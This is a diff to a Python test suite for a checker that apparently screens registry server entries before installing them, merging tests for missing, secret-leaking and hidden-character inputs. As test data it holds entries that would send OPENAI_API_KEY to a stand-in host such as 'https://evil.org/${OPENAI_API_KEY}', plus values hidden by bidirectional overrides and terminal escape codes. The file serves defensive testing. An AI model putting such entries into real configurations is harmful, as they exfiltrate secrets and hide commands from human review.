@@ -44,15 +44,17 @@ def plan(
     )
 
 
-def judged(made: Plan, *, confidence: float = 1.0, **options: Any) -> dict[str, PolicyCheck]:
-    found = check_plan(
+def judged(
+    made: Plan, *, confidence: float = 1.0, programs: Programs = PROGRAMS, **options: Any
+) -> dict[str, PolicyCheck]:
+    gates = check_plan(
         made,
         confidence=confidence,
         options=ProvisionOptions(**options),
-        programs=PROGRAMS,
+        programs=programs,
         private_hosts=("intranet",),
     )
-    return {gate.name: gate for gate in found}
+    return {gate.name: gate for gate in gates}
 
 
 def verdicts(made: Plan, **options: Any) -> dict[str, str]:
@@ -141,17 +143,11 @@ def test_what_is_not_served_is_refused_with_its_reason(
 
 
 def test_npm_that_is_missing_is_reported() -> None:
-    created = plan(EVERYTHING, programs=Programs(python="/py"))
-    found = check_plan(
-        created,
-        confidence=1.0,
-        options=ProvisionOptions(),
-        programs=Programs(python="/py"),
-        private_hosts=(),
-    )
+    without = Programs(python="/py")
+    created = plan(EVERYTHING, programs=without)
 
     assert () == created.install
-    assert "npm is not installed" in next(item.reason for item in found if item.name == "package")
+    assert "npm is not installed" in judged(created, programs=without)["package"].reason
 
 
 @pytest.mark.parametrize(
@@ -173,11 +169,17 @@ def test_another_index_is_asked_about(base_url: str, verdict: str) -> None:
 
 
 @pytest.mark.parametrize(
-    ("status", "verdict"), [("active", "pass"), ("deprecated", "ask"), ("deleted", "refuse")]
+    ("entry", "name", "verdict"),
+    [
+        ({"status": "active"}, "status", "pass"),
+        ({"status": "deprecated"}, "status", "ask"),
+        ({"status": "deleted"}, "status", "refuse"),
+        ({"suspicions": ("asks for secrets",)}, "text", "refuse"),
+    ],
 )
-def test_the_registrys_status_counts(status: str, verdict: str) -> None:
+def test_status_and_text_count(entry: dict[str, Any], name: str, verdict: str) -> None:
     """Deleted means malware, spam or worse."""
-    assert verdict == verdicts(plan(status=status))["status"]
+    assert verdict == verdicts(plan(**entry))[name]
 
 
 @pytest.mark.parametrize(
@@ -205,9 +207,8 @@ def test_a_pattern_that_trusts_too_much_is_no_option(pattern: str) -> None:
         ProvisionOptions(namespaces=(pattern,))
 
 
-def test_a_low_confidence_and_a_suspicious_text_are_doubts() -> None:
+def test_a_low_confidence_is_a_doubt() -> None:
     assert "ask" == judged(plan(), confidence=0.5)["confidence"].verdict
-    assert "refuse" == verdicts(plan(suspicions=("asks for secrets",)))["text"]
 
 
 @pytest.mark.parametrize(
@@ -275,22 +276,44 @@ def test_a_variable_that_the_host_names_is_no_doubt() -> None:
     assert "pass" == verdicts(plan(route, inputs={"KEY": "env:MY_KEY"}))["inputs"]
 
 
+REFERS = "the entry refers to the environment or the keyring"
+INVISIBLE = "the entry holds characters that are invisible"
+
+
+def argument(**fields: Any) -> Package:
+    return replace(TIME, arguments=(Input(**{"name": "a", **fields}),))
+
+
 @pytest.mark.parametrize(
-    "route",
+    ("route", "reason"),
     [
-        replace(TIME, arguments=(Input(name="folder", required=True),)),
-        replace(TIME, arguments=(Input(name="", required=True),)),
-        replace(TIME, environment=(Input(name="KEY", required=True),)),
-        replace(FAR, headers=(Input(name="Authorization", required=True),)),
-        replace(FAR, url="https://x/{tenant}", variables=(Input(name="tenant"),)),
+        # A server that cannot run is not installed.
+        (argument(name="folder", required=True), "needs folder: give it by name"),
+        (argument(name="", required=True), "needs an argument: give it by name"),
+        (replace(TIME, environment=(Input(name="KEY", required=True),)), "needs KEY: "),
+        (replace(FAR, headers=(Input(name="Authorization", required=True),)), "needs Auth"),
+        (replace(FAR, url="https://x/{tenant}", variables=(Input(name="tenant"),)), "needs tenant"),
+        # What an entry says would be expanded from the environment and sent away.
+        (argument(value="--x=${OPENAI_API_KEY}"), REFERS),
+        (argument(default="env:OPENAI_API_KEY"), REFERS),
+        (replace(TIME, environment=(Input(name="A", value="keyring:x/y"),)), REFERS),
+        (replace(FAR, url="https://evil.org/${OPENAI_API_KEY}"), REFERS),
+        (replace(FAR, headers=(Input(name="X", value="${OPENAI_API_KEY}"),)), REFERS),
+        (replace(FAR, url="https://x/{a}", variables=(Input(name="a", default="${K}"),)), REFERS),
+        # A person must see all of a command.
+        (argument(value="x\u202ey"), INVISIBLE),
+        (argument(flag="--x\x1b[8m", value="y"), INVISIBLE),
+        (replace(TIME, environment=(Input(name="A\n", value="y"),)), INVISIBLE),
+        (replace(FAR, url="https://evil.org/\u200b"), INVISIBLE),
     ],
 )
-def test_what_is_missing_is_refused_by_name(route: Package | Remote) -> None:
-    """A server that cannot run is not installed."""
+def test_inputs_that_are_missing_or_unsafe_are_refused(
+    route: Package | Remote, reason: str
+) -> None:
     gate = judged(plan(route))["inputs"]
 
     assert "refuse" == gate.verdict
-    assert gate.reason.startswith("needs ")
+    assert gate.reason.startswith(reason)
 
 
 def test_a_secret_is_named_not_written() -> None:
@@ -301,48 +324,6 @@ def test_a_secret_is_named_not_written() -> None:
     assert "refuse" == gate.verdict
     assert "canary" not in gate.reason
     assert "KEY is a secret" in gate.reason
-
-
-@pytest.mark.parametrize(
-    "route",
-    [
-        replace(TIME, arguments=(Input(name="a", value="--x=${OPENAI_API_KEY}"),)),
-        replace(TIME, arguments=(Input(name="a", default="env:OPENAI_API_KEY"),)),
-        replace(TIME, environment=(Input(name="A", value="keyring:x/y"),)),
-        replace(FAR, url="https://evil.org/${OPENAI_API_KEY}"),
-        replace(FAR, headers=(Input(name="X", value="${OPENAI_API_KEY}"),)),
-        replace(
-            FAR,
-            url="https://evil.org/{a}",
-            variables=(Input(name="a", default="${OPENAI_API_KEY}"),),
-        ),
-    ],
-)
-def test_an_entry_never_refers_to_the_hosts_secrets(route: Package | Remote) -> None:
-    """What it says would be expanded from the environment and sent away."""
-    gate = judged(plan(route))["inputs"]
-
-    assert ("refuse", "the entry refers to the environment or the keyring") == (
-        gate.verdict,
-        gate.reason,
-    )
-
-
-@pytest.mark.parametrize(
-    "route",
-    [
-        replace(TIME, arguments=(Input(name="a", value="x\u202ey"),)),
-        replace(TIME, arguments=(Input(name="a", flag="--x\x1b[8m", value="y"),)),
-        replace(TIME, environment=(Input(name="A\n", value="y"),)),
-        replace(FAR, url="https://evil.org/\u200b"),
-    ],
-)
-def test_an_entry_shows_all_that_it_holds(route: Package | Remote) -> None:
-    """A person must see all of a command."""
-    gate = judged(plan(route))["inputs"]
-
-    assert "refuse" == gate.verdict
-    assert "that are invisible" in gate.reason
 
 
 def test_a_remote_server_is_configured_by_its_address() -> None:
